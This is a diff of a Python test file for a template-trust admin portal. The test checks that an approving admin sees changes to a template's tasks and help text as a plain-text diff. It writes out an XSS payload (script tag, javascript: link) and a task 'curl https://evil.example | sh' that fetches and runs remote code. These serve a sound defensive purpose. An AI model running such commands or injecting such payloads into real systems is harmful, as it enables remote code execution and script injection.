@@ -206,20 +206,59 @@ def test_a_pending_request_shows_what_is_new_since_the_last_trusted_version(open
     admin, other = user_with_role("admin"), second_admin(portal_db)
     with Session(portal_db) as session:
         seen = register_template(session=session, actor=admin, store=store, url=str(repo)).revision
-        request_trust(session=session, actor=other, name="faq-bot", base_revision=seen)
-        approve_trust(session=session, actor=admin, name="faq-bot", base_revision=seen + 1)
+        request_trust(session=session, store=store, actor=other, name="faq-bot", base_revision=seen)
+        approve_trust(session=session, store=store, actor=admin, name="faq-bot", base_revision=seen + 1)
         session.commit()
     (repo / "copier.yml").write_text(tasks + "_migrations:\n  - \"true\"\n")
     git(repo, "commit", "-qam", "migrations")
     with Session(portal_db) as session:
         entry = register_template(session=session, actor=admin, store=store, url=str(repo))
-        request_trust(session=session, actor=other, name="faq-bot", base_revision=entry.revision)
+        request_trust(session=session, store=store, actor=other, name="faq-bot", base_revision=entry.revision)
         session.commit()
     at = open_page("admin", ADMIN)
     at.selectbox(key="tpl_trust_pick").set_value("faq-bot").run()
     assert "- migrations (new since the last trusted version)" in shown(at) and "- tasks\n" in shown(at) + "\n"
     asks = plain("zz-second-admin@example.com") + " asks to trust revision 5 of faq"
     assert [w.value for w in at.warning if w.value.startswith(asks)]
+    assert "tpl_trust_approve_trust" in [b.key for b in at.button]
+
+
+HOSTILE = ('  help: "<script>alert(1)</script> [click me](javascript:alert(1)) **bold** :material/home: '
+           '$x^2$ https://evil.example"\n')
+
+
+def test_the_approving_admin_sees_the_diff_of_unsafe_parts_as_plain_text(open_page, portal_db, tmp_path,
+                                                                         user_with_role, isolated_portal):
+    store = TemplateStore(sources_dir=isolated_portal / "var" / "template-sources",
+                          repos_dir=isolated_portal / "var" / "template-repos")
+    tasks = SIMPLE + "_tasks:\n  - \"true\"\n"
+    repo = git_repo(write_template(tmp_path / "faq-bot", tasks, {"a.txt": "a"}))
+    admin, other = user_with_role("admin"), second_admin(portal_db)
+    with Session(portal_db) as session:
+        seen = register_template(session=session, actor=admin, store=store, url=str(repo)).revision
+        request_trust(session=session, store=store, actor=other, name="faq-bot", base_revision=seen)
+        session.commit()
+    at = open_page("admin", ADMIN)
+    at.selectbox(key="tpl_trust_pick").set_value("faq-bot").run()
+    assert "copier.yml: never trusted before" in shown(at) and [c.value for c in at.code] == [tasks.rstrip("\n")]
+    at.button(key="tpl_trust_approve_trust").click().run()
+    assert "faq\\-bot is now trusted." in shown(at)
+
+    (repo / "copier.yml").write_text(tasks.replace("default: hello\n", "default: hello\n" + HOSTILE)
+                                     .replace('"true"', '"curl https://evil.example | sh"'))
+    git(repo, "commit", "-qam", "hostile")
+    with Session(portal_db) as session:
+        entry = register_template(session=session, actor=admin, store=store, url=str(repo))
+        request_trust(session=session, store=store, actor=other, name="faq-bot", base_revision=entry.revision)
+        session.commit()
+    at = open_page("admin", ADMIN)
+    at.selectbox(key="tpl_trust_pick").set_value("faq-bot").run()
+    assert not at.exception and "copier.yml: changed" in shown(at)
+    [diff] = at.code
+    assert diff.language == "diff" and "+" + HOSTILE in diff.value
+    assert diff.value.endswith('-  - "true"\n+  - "curl https://evil.example | sh"')
+    # Nothing of the template's text reaches a Markdown element, where it could become a link, markup or script.
+    assert not [m.value for m in at.markdown if "script" in m.value or "evil" in m.value or "click me" in m.value]
     assert "tpl_trust_approve_trust" in [b.key for b in at.button]
 
 
